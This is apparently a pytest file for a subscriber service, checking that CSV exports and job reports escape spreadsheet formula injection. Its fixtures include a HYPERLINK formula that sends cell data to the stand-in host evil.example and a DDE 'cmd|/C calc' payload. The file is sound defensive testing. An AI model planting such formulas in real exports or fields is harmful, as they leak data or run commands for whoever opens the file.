"""CSV files people open in a spreadsheet are safe from formula injection (OWASP): text
cells starting with `=`, `+`, `-`, `@`, a tab or a carriage return are prefixed with `'` —
in the suppression and history exports and in a bulk job's outcome report (text that is only
a signed number, such as an E.164 phone number, runs nothing and is kept as it is)."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from assent.services import csvcells
from assent.storage.db import Database
from tests.conftest import Catalog
from tests.jobs.helpers import run_jobs, start

EVIL_ADDRESS = "=1+2@example.com"
EVIL_AGENT = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_exports_and_reports_quote_cells_a_spreadsheet_would_run(
    client: TestClient, db: Database, make: Catalog, admin_headers: dict[str, str], write_headers: dict[str, str]
) -> None:
    newsletter = make.type()
    changed = client.post(
        f"/api/v1/subscribers/EMAIL/{EVIL_ADDRESS}/statuses",
        json={"changes": [{"subscription_type_id": newsletter, "status": "UNSUBSCRIBED"}]},
        headers={**write_headers, "User-Agent": EVIL_AGENT},
    )
    assert changed.status_code == 200, changed.text

    suppressions = _rows(client.get("/api/v1/exports/suppressions", headers=admin_headers).text)
    assert [row["address"] for row in suppressions] == ["'=1+2@example.com"]
    history = _rows(client.get("/api/v1/exports/history", headers=admin_headers).text)
    assert [(row["address"], row["user_agent"]) for row in history] == [("'=1+2@example.com", "'" + EVIL_AGENT)]

    job = start(client, write_headers, addresses=["@bob@example.com", "+46@example.com"], status="UNSUBSCRIBED",
                subscription_type_ids=[newsletter])
    assert job.status_code == 202, job.text
    run_jobs(db)
    report = client.get(f"/api/v1/jobs/{job.json()['id']}/outcomes", headers={**write_headers, "Accept": "text/csv"})
    assert report.status_code == 200
    addresses = [row["address"] for row in _rows(report.text)]
    assert addresses, report.text
    assert all(a.startswith("'") for a in addresses if a[:1] in "=+-@"), addresses
    assert not any(a[:1] in "=+-@\t\r" for a in addresses), addresses


def test_a_cell_is_quoted_only_when_it_starts_like_a_formula() -> None:
    assert [csvcells.cell(v) for v in ("=A1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx")] == [
        "'=A1", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"
    ]
    # plain values, and text that is only a signed number (an E.164 phone number)
    assert [csvcells.cell(v) for v in ("alice@example.com", "a=b", "", None, -1, 2.5, "+46701234501", "-5")] == [
        "alice@example.com", "a=b", "", None, -1, 2.5, "+46701234501", "-5"
    ]
